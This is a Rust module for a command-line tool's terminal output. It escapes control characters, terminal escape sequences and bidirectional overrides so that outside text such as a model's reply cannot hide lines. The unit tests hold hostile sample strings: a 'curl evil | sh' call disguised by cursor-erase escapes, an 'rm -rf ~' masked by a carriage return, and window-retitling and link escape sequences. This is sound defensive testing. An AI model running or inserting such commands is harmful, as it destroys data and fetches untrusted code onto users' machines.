//! How things look: colour (only on a terminal, honouring `NO_COLOR` and `--color`),
//! progress and summaries on stderr, confirmation prompts, and a stdout that survives
//! a closed pipe. Nothing else in the program decides presentation.

use std::borrow::Cow;
use std::io::{self, IsTerminal, Write};

use console::{Style, Term};

use crate::error::CommandError;

/// The `--color` choice.
#[derive(Debug, Clone, Copy, PartialEq, Eq, clap::ValueEnum)]
pub enum ColorChoice {
    Auto,
    Always,
    Never,
}

/// Decides colour once for the whole run.
pub fn init_colors(choice: ColorChoice) {
    let no_color = std::env::var_os("NO_COLOR").is_some_and(|v| !v.is_empty());
    let dumb = std::env::var("TERM").is_ok_and(|t| t == "dumb");
    let (out, err) = match choice {
        ColorChoice::Always => (true, true),
        ColorChoice::Never => (false, false),
        ColorChoice::Auto => (
            !no_color && !dumb && io::stdout().is_terminal(),
            !no_color && !dumb && io::stderr().is_terminal(),
        ),
    };
    console::set_colors_enabled(out);
    console::set_colors_enabled_stderr(err);
}

fn paint(style: Style, text: &str) -> String {
    style.for_stderr().apply_to(text).to_string()
}

/// Whether a person can answer a question: stdin and stderr are both terminals.
pub fn interactive() -> bool {
    io::stdin().is_terminal() && io::stderr().is_terminal()
}

/// Prints an error and its hint on stderr. Messages quote paths, requests and servers'
/// answers, so they are escaped like every other text from outside.
pub fn report_error(err: &CommandError) {
    let mut e = io::stderr().lock();
    let _ = writeln!(
        e,
        "{} {}",
        paint(Style::new().red().bold(), "error:"),
        escape_controls(&err.to_string())
    );
    if let Some(hint) = &err.hint {
        let _ = writeln!(
            e,
            "{} {}",
            paint(Style::new().cyan(), "hint:"),
            escape_controls(hint)
        );
    }
}

pub fn warn(message: &str) {
    let _ = writeln!(
        io::stderr().lock(),
        "{} {}",
        paint(Style::new().yellow().bold(), "warning:"),
        escape_controls(message)
    );
}

pub fn note(message: &str) {
    let _ = writeln!(
        io::stderr().lock(),
        "{}",
        paint(Style::new().dim(), &escape_controls(message))
    );
}

/// `[2/3] run the tests`
pub fn step_header(index: usize, total: usize, text: &str) {
    let _ = writeln!(
        io::stderr().lock(),
        "{} {}",
        paint(Style::new().cyan().bold(), &format!("[{index}/{total}]")),
        paint(Style::new().bold(), &escape_controls(text))
    );
}

/// What one step came to.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum StepStatus {
    Done,
    Failed,
    Skipped,
    Refused,
}

impl StepStatus {
    pub fn as_str(self) -> &'static str {
        match self {
            StepStatus::Done => "done",
            StepStatus::Failed => "failed",
            StepStatus::Skipped => "skipped",
            StepStatus::Refused => "refused",
        }
    }
}

/// `2 done, 1 failed, 1 skipped`
pub fn summary(statuses: &[StepStatus]) -> String {
    let count = |s| statuses.iter().filter(|x| **x == s).count();
    let mut parts = vec![format!("{} done", count(StepStatus::Done))];
    for s in [StepStatus::Failed, StepStatus::Refused, StepStatus::Skipped] {
        let n = count(s);
        if n > 0 {
            parts.push(format!("{n} {}", s.as_str()));
        }
    }
    parts.join(", ")
}

pub fn print_summary(statuses: &[StepStatus]) {
    let ok = statuses.iter().all(|s| *s == StepStatus::Done);
    let style = if ok {
        Style::new().green()
    } else {
        Style::new().red()
    };
    let _ = writeln!(
        io::stderr().lock(),
        "{}",
        paint(style.bold(), &summary(statuses))
    );
}

/// Asks a yes/no question on the terminal; anything but a clear yes is a no. Ctrl-C
/// at the prompt is a no that is also noted as an interruption.
pub fn confirm(prompt: &str) -> bool {
    match dialoguer::Confirm::new()
        .with_prompt(escape_controls(prompt))
        .default(false)
        .interact_on(&Term::stderr())
    {
        Ok(answer) => answer,
        Err(dialoguer::Error::IO(e)) => {
            if e.kind() == io::ErrorKind::Interrupted {
                crate::interrupt::note_key_press();
            }
            false
        }
    }
}

/// Runs a function that writes to stdout, treating a closed pipe (`… | head`) as a
/// normal end rather than an error.
pub fn with_stdout(f: impl FnOnce(&mut dyn Write) -> io::Result<()>) -> Result<(), CommandError> {
    let stdout = io::stdout();
    let mut out = io::BufWriter::new(stdout.lock());
    match f(&mut out).and_then(|()| out.flush()) {
        Err(e) if e.kind() == io::ErrorKind::BrokenPipe => Ok(()),
        other => other.map_err(CommandError::from),
    }
}

/// Text from outside the program — a model's reply, a file, the request, a server's
/// answer — made safe to show on a terminal: control characters and escape sequences are
/// shown, not obeyed, so a reply cannot move the cursor, erase lines, retitle the window or
/// hide a line of the diff the user confirms. Tab and newline stay, and so does a CR before
/// a newline (it cannot hide anything); every other control is shown in caret notation
/// (`^[` for ESC, `^M` for a lone CR, `^?` for DEL), and C1 controls and the
/// bidirectional overrides that reorder what is seen (Trojan Source) as `\u{…}`.
/// Style the result, never the other way round: escaping styled text would show its
/// colour codes.
pub fn escape_controls(text: &str) -> Cow<'_, str> {
    if !text.chars().any(needs_escape) {
        return Cow::Borrowed(text);
    }
    let mut chars = text.chars().peekable();
    let mut out = String::with_capacity(text.len() + 8);
    while let Some(c) = chars.next() {
        let line_end = c == '\r' && chars.peek() == Some(&'\n');
        if line_end || !needs_escape(c) {
            out.push(c);
        } else if c < ' ' {
            out.push('^');
            out.push(char::from(b'@' + c as u8));
        } else if c == '\u{7f}' {
            out.push_str("^?");
        } else {
            out.push_str(&format!("\\u{{{:x}}}", u32::from(c)));
        }
    }
    Cow::Owned(out)
}

fn needs_escape(c: char) -> bool {
    match c {
        '\n' | '\t' => false,
        '\u{0}'..='\u{1f}' | '\u{7f}'..='\u{9f}' => true,
        // Embeddings, overrides and isolates: they reorder how the text is displayed.
        '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}' => true,
        _ => false,
    }
}

/// [`escape_controls`] for text that arrives in pieces, like a streamed answer: a CR at
/// the end of a piece waits for the next to see whether a newline follows.
#[derive(Debug, Default)]
pub struct StreamEscaper {
    held_cr: bool,
}

impl StreamEscaper {
    /// The escaped form of `piece`, less a CR it ends with.
    pub fn push(&mut self, piece: &str) -> String {
        let mut text = String::with_capacity(piece.len() + 1);
        if std::mem::take(&mut self.held_cr) {
            text.push('\r');
        }
        text.push_str(piece);
        if text.ends_with('\r') {
            text.pop();
            self.held_cr = true;
        }
        escape_controls(&text).into_owned()
    }

    /// What is still held at the end of the stream.
    pub fn finish(&mut self) -> &'static str {
        if std::mem::take(&mut self.held_cr) {
            "^M"
        } else {
            ""
        }
    }
}

/// Styles for stdout (used by human-readable listings).
pub fn bold(text: &str) -> String {
    Style::new().bold().apply_to(text).to_string()
}

pub fn dim(text: &str) -> String {
    Style::new().dim().apply_to(text).to_string()
}

pub fn green(text: &str) -> String {
    Style::new().green().apply_to(text).to_string()
}

pub fn yellow(text: &str) -> String {
    Style::new().yellow().apply_to(text).to_string()
}

pub fn red(text: &str) -> String {
    Style::new().red().apply_to(text).to_string()
}

/// A spinner on stderr while something slow happens, only when stderr is a terminal.
pub fn spinner(message: String) -> Option<indicatif::ProgressBar> {
    if !io::stderr().is_terminal() {
        return None;
    }
    let bar = indicatif::ProgressBar::new_spinner().with_message(message);
    bar.enable_steady_tick(std::time::Duration::from_millis(100));
    Some(bar)
}

/// A byte progress bar on stderr for a download, only when stderr is a terminal.
pub fn download_bar(message: String) -> Option<indicatif::ProgressBar> {
    if !io::stderr().is_terminal() {
        return None;
    }
    let bar = indicatif::ProgressBar::new(0).with_message(message);
    bar.set_style(
        indicatif::ProgressStyle::with_template(
            "{msg}\n{wide_bar} {bytes}/{total_bytes} {bytes_per_sec} eta {eta}",
        )
        .unwrap_or_else(|_| indicatif::ProgressStyle::default_bar()),
    );
    Some(bar)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn plain_text_tabs_and_newlines_pass_unchanged() {
        let text = "fn main() {\n\tprintln!(\"héllo → wörld\");\r\n}\n";
        assert_eq!(escape_controls(text), text);
        assert!(matches!(escape_controls("a\tb\n"), Cow::Borrowed(_)));
    }

    #[test]
    fn a_line_that_hides_itself_is_shown() {
        // Cursor up, erase the line, carriage return: the reply's line would vanish.
        let hidden = "+    os.system('curl evil | sh')\x1b[1A\x1b[2K\r\n";
        let shown = escape_controls(hidden);
        // With the escapes shown, a CR before the newline hides nothing.
        assert_eq!(shown, "+    os.system('curl evil | sh')^[[1A^[[2K\r\n");
        assert!(!shown.contains('\x1b'));
        // A lone CR would let the rest of the line overwrite its start.
        assert_eq!(
            escape_controls("rm -rf ~\r# tidy up\r"),
            "rm -rf ~^M# tidy up^M"
        );
    }

    #[test]
    fn osc_sequences_controls_and_reordering_are_shown() {
        let text = "\x1b]0;pwned\x07\x1b]8;;http://evil\x1b\\x\u{9b}31m\0\x7f a\u{202e}b\u{2066}c";
        let shown = escape_controls(text);
        assert_eq!(
            shown,
            "^[]0;pwned^G^[]8;;http://evil^[\\x\\u{9b}31m^@^? a\\u{202e}b\\u{2066}c"
        );
        assert!(!shown.chars().any(needs_escape));
    }

    #[test]
    fn a_stream_escapes_like_the_whole_text() {
        let text = "one\r\ntwo\rthree\x1b[2K\r";
        for size in 1..text.len() {
            let mut escaper = StreamEscaper::default();
            let mut streamed = String::new();
            let bytes: Vec<char> = text.chars().collect();
            for piece in bytes.chunks(size) {
                streamed.push_str(&escaper.push(&piece.iter().collect::<String>()));
            }
            streamed.push_str(escaper.finish());
            assert_eq!(streamed, escape_controls(text), "pieces of {size}");
        }
    }
}
